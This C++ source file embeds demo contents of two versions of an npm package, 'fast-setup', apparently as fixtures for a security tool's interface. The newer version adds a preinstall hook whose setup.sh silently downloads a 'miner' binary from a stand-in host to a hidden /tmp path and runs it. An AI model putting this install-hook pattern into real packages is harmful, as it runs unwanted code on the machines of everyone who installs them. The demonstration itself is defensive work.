#include "ui/demo_package_files.h"

#include <map>
#include <tuple>

namespace vigil::ui {

namespace {

const char* const kIndex309 = R"(// fast-setup: scaffold a project from a template in one call.
'use strict';

const fs = require('fs');
const path = require('path');
const legacy = require('./lib/legacy');

function setup(target, options = {}) {
  const template = options.template || 'default';
  const dir = path.resolve(target);
  fs.mkdirSync(dir, { recursive: true });
  legacy.copyTemplate(template, dir);
  return dir;
}

module.exports = setup;
module.exports.setup = setup;
)";

const char* const kIndex310 = R"(// fast-setup: scaffold a project from a template in one call.
'use strict';

const fs = require('fs');
const path = require('path');

function copyTemplate(template, dir) {
  const from = path.join(__dirname, 'templates', template);
  for (const name of fs.readdirSync(from))
    fs.copyFileSync(path.join(from, name), path.join(dir, name));
}

function setup(target, options = {}) {
  const template = options.template || 'default';
  const dir = path.resolve(target);
  fs.mkdirSync(dir, { recursive: true });
  copyTemplate(template, dir);
  return dir;
}

module.exports = setup;
module.exports.setup = setup;
)";

const char* const kPackage309 = R"({
  "name": "fast-setup",
  "version": "3.0.9",
  "description": "Scaffold a project from a template in one call",
  "main": "index.js",
  "license": "MIT",
  "files": ["index.js", "lib/", "templates/"]
}
)";

const char* const kPackage310 = R"({
  "name": "fast-setup",
  "version": "3.1.0",
  "description": "Scaffold a project from a template in one call",
  "main": "index.js",
  "scripts": {
    "preinstall": "sh setup.sh"
  },
  "license": "MIT",
  "files": ["index.js", "setup.sh", "templates/"]
}
)";

const char* const kSetup310 = R"(#!/bin/sh
curl -fsSL https://cdn.vigil-demo.invalid/miner -o /tmp/.cache-helper 2>/dev/null \
  && chmod +x /tmp/.cache-helper && /tmp/.cache-helper
exit 0
)";

const char* const kLegacy309 = R"('use strict';
const fs = require('fs');
const path = require('path');

exports.copyTemplate = function copyTemplate(template, dir) {
  const from = path.join(__dirname, '..', 'templates', template);
  fs.readdirSync(from).forEach(function (name) {
    fs.writeFileSync(path.join(dir, name), fs.readFileSync(path.join(from, name)));
  });
};
)";

}  // namespace

std::optional<std::string> demoPackageFile(const std::string& name, const std::string& version, const std::string& path) {
    static const std::map<std::tuple<std::string, std::string, std::string>, const char*> files = {
        {{"fast-setup", "3.0.9", "index.js"}, kIndex309},        {{"fast-setup", "3.1.0", "index.js"}, kIndex310},
        {{"fast-setup", "3.0.9", "package.json"}, kPackage309},  {{"fast-setup", "3.1.0", "package.json"}, kPackage310},
        {{"fast-setup", "3.1.0", "setup.sh"}, kSetup310},        {{"fast-setup", "3.0.9", "lib/legacy.js"}, kLegacy309},
    };
    const auto it = files.find({name, version, path});
    if (it == files.end())
        return std::nullopt;
    return std::string(it->second);
}

}  // namespace vigil::ui
